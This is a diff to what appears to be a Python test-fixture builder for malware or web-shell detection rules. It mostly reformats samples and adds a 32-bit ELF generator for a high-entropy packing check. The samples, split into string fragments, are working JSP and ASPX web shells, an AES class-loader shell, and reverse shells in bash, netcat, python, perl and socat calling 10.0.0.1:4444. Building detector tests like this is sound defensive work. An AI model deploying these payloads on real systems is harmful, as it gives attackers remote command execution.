@@ -46,6 +46,18 @@ def _elf(payload: bytes, *, sections: int = 0, offset_of_payload: int = 0x78) ->
     return body
 
 
+def _elf32(payload: bytes, offset_of_payload: int = 0x54) -> bytes:
+    """A minimal 32-bit little-endian ELF executable with one PT_LOAD segment covering the file."""
+    total = offset_of_payload + len(payload)
+    ident = b"\x7fELF" + bytes([1, 1, 1, 0]) + bytes(8)
+    header = ident + struct.pack(
+        "<HHIIIIIHHHHHH", 2, 3, 1, 0x8048000 + offset_of_payload, 52, 0, 0, 52, 32, 1, 40, 0, 0
+    )
+    phdr = struct.pack("<IIIIIIII", 1, 0, 0x8048000, 0x8048000, total, total, 5, 0x1000)
+    body = header + phdr
+    return body + bytes(offset_of_payload - len(body)) + payload
+
+
 def _random(n: int, seed: int) -> bytes:
     return random.Random(seed).randbytes(n)
 
@@ -92,7 +104,8 @@ def built_samples() -> Samples:
                     "cmd.jsp",
                     _j(
                         '<%@ page import="java.io.*" %>\n<%\n',
-                        "Process p = Runtime.getRuntime().", 'exec(request.getParameter("cmd"));\n',
+                        "Process p = Runtime.getRuntime().",
+                        'exec(request.getParameter("cmd"));\n',
                         "BufferedReader r = new BufferedReader(new InputStreamReader(p.getInputStream()));\n",
                         "String l; while ((l = r.readLine()) != null) { out.println(l); }\n%>\n",
                     ),
@@ -100,8 +113,10 @@ def built_samples() -> Samples:
                 (
                     "split.jsp",
                     _j(
-                        "<%\nString c = request.", 'getParameter("c");\n',
-                        "Process p = Runtime.getRuntime().", "exec(c);\n",
+                        "<%\nString c = request.",
+                        'getParameter("c");\n',
+                        "Process p = Runtime.getRuntime().",
+                        "exec(c);\n",
                         "java.io.InputStream in = p.getInputStream();\n%>\n",
                     ),
                 ),
@@ -114,9 +129,13 @@ def built_samples() -> Samples:
                     "loader.jsp",
                     _j(
                         '<%@page import="javax.crypto.*,javax.crypto.spec.*"%>\n',
-                        "<%!class L extends Class", "Loader{L(Class", "Loader p){super(p);}",
-                        "Class d(byte[] b){return super.define", "Class(b,0,b.length);}}%>\n",
-                        '<%Cipher c=Cipher.getInstance("A', 'ES");',
+                        "<%!class L extends Class",
+                        "Loader{L(Class",
+                        "Loader p){super(p);}",
+                        "Class d(byte[] b){return super.define",
+                        "Class(b,0,b.length);}}%>\n",
+                        '<%Cipher c=Cipher.getInstance("A',
+                        'ES");',
                         'c.init(2,new SecretKeySpec("0123456789abcdef".getBytes(),"AES"));',
                         "byte[] b=c.doFinal(java.util.Base64.getDecoder().decode(request.",
                         "getReader().readLine()));",
@@ -133,10 +152,14 @@ def built_samples() -> Samples:
                     _j(
                         '<%@ Page Language="C#" %>\n<script runat="server">\n',
                         "void Page_Load(object s, EventArgs e) {\n",
-                        'var psi = new System.Diagnostics.ProcessStart', 'Info("cmd', '.exe", "/c " + ',
+                        "var psi = new System.Diagnostics.ProcessStart",
+                        'Info("cmd',
+                        '.exe", "/c " + ',
                         'Request.Form["c"]);\n',
-                        "psi.RedirectStandard", "Output = true; psi.UseShellExecute = false;\n",
-                        "var p = System.Diagnostics.Process.", "Start(psi);\n",
+                        "psi.RedirectStandard",
+                        "Output = true; psi.UseShellExecute = false;\n",
+                        "var p = System.Diagnostics.Process.",
+                        "Start(psi);\n",
                         "Response.Write(p.StandardOutput.ReadToEnd());\n}\n</script>\n",
                     ),
                 )
@@ -145,21 +168,30 @@ def built_samples() -> Samples:
         },
         "HW_ASPX_Webshell_Eval": {
             "positive": [
-                ("one.aspx", _j('<%@ Page Language="Jscript"%><%', ev, 'Request.Item["pass"],"un', 'safe");%>')),
+                (
+                    "one.aspx",
+                    _j('<%@ Page Language="Jscript"%><%', ev, 'Request.Item["pass"],"un', 'safe");%>'),
+                ),
             ],
             "negative": [],
         },
         "HW_RevShell_Bash_DevTcp": {
             "positive": [
                 ("rev.sh", _j("#!/bin/bash\nbash -i >& ", dev_tcp, "10.0.0.1/4444 0>&1\n")),
-                ("fd.sh", _j("exec 5<>", dev_tcp, "10.0.0.1/4444\ncat <&5 | while read l; do $l 2>&5 >&5; done\n")),
+                (
+                    "fd.sh",
+                    _j("exec 5<>", dev_tcp, "10.0.0.1/4444\ncat <&5 | while read l; do $l 2>&5 >&5; done\n"),
+                ),
             ],
             "negative": [],
         },
         "HW_RevShell_Netcat_Exec": {
             "positive": [
                 ("nc.sh", _j("nc -", "e /bin/sh 10.0.0.1 4444\n")),
-                ("fifo.sh", _j("rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|", sh_i, " 2>&1|nc 10.0.0.1 4444 >/tmp/f\n")),
+                (
+                    "fifo.sh",
+                    _j("rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|", sh_i, " 2>&1|nc 10.0.0.1 4444 >/tmp/f\n"),
+                ),
                 ("ncat.sh", _j("ncat 10.0.0.1 4444 --", "exec /bin/bash\n")),
             ],
             "negative": [],
@@ -169,10 +201,15 @@ def built_samples() -> Samples:
                 (
                     "rev.py",
                     _j(
-                        "python3 -c 'import socket,os,pty;s=socket.", "socket(socket.AF_INET,socket.SOCK_STREAM);",
+                        "python3 -c 'import socket,os,pty;s=socket.",
+                        "socket(socket.AF_INET,socket.SOCK_STREAM);",
                         's.connect(("10.0.0.1",4444));',
-                        "os.dup2(s.", "fileno(),0);os.dup2(s.", "fileno(),1);os.dup2(s.", "fileno(),2);",
-                        'pty.spawn("/bin/', "bash\")'\n",
+                        "os.dup2(s.",
+                        "fileno(),0);os.dup2(s.",
+                        "fileno(),1);os.dup2(s.",
+                        "fileno(),2);",
+                        'pty.spawn("/bin/',
+                        "bash\")'\n",
                     ),
                 )
             ],
@@ -183,17 +220,25 @@ def built_samples() -> Samples:
                 (
                     "rev.pl",
                     _j(
-                        "perl -e 'use Sock", 'et;$i="10.0.0.1";$p=4444;socket(S,PF_', 'INET,SOCK_STREAM,getprotobyname("tcp"));',
+                        "perl -e 'use Sock",
+                        'et;$i="10.0.0.1";$p=4444;socket(S,PF_',
+                        'INET,SOCK_STREAM,getprotobyname("tcp"));',
                         "if(connect(S,sockaddr_in($p,inet_aton($i)))){",
-                        'open(STD', 'IN,">&S");open(STD', 'OUT,">&S");open(STD', 'ERR,">&S");',
-                        'exec("/bin/', "sh -i\");};'\n",
+                        "open(STD",
+                        'IN,">&S");open(STD',
+                        'OUT,">&S");open(STD',
+                        'ERR,">&S");',
+                        'exec("/bin/',
+                        "sh -i\");};'\n",
                     ),
                 ),
                 (
                     "io.pl",
                     _j(
-                        "perl -MIO -e '$p=fork;exit,if($p);$c=new IO::Socket::", 'INET(PeerAddr,"10.0.0.1:4444");',
-                        "STD", "IN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;'\n",
+                        "perl -MIO -e '$p=fork;exit,if($p);$c=new IO::Socket::",
+                        'INET(PeerAddr,"10.0.0.1:4444");',
+                        "STD",
+                        "IN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;'\n",
                     ),
                 ),
             ],
@@ -201,7 +246,10 @@ def built_samples() -> Samples:
         },
         "HW_RevShell_Socat_Exec": {
             "positive": [
-                ("socat1.sh", _j("socat ex", "ec:'bash -li',pty,stderr,setsid,sigint,sane tcp:10.0.0.1:4444\n")),
+                (
+                    "socat1.sh",
+                    _j("socat ex", "ec:'bash -li',pty,stderr,setsid,sigint,sane tcp:10.0.0.1:4444\n"),
+                ),
                 ("socat2.sh", _j("socat TCP:10.0.0.1:4444 EX", "EC:/bin/sh\n")),
             ],
             "negative": [],
@@ -218,10 +266,12 @@ def built_samples() -> Samples:
         "HW_ELF_High_Entropy_No_Sections": {
             "positive": [
                 ("packed.elf", _elf(_random(64 * 1024, 7))),
+                ("packed32.elf", _elf32(_random(32 * 1024, 9))),
             ],
             "negative": [
                 ("plain.elf", _elf(_text(64 * 1024))),
                 ("with-sections.elf", _elf(_random(64 * 1024, 8), sections=3)),
+                ("plain32.elf", _elf32(_text(32 * 1024))),
             ],
         },
     }
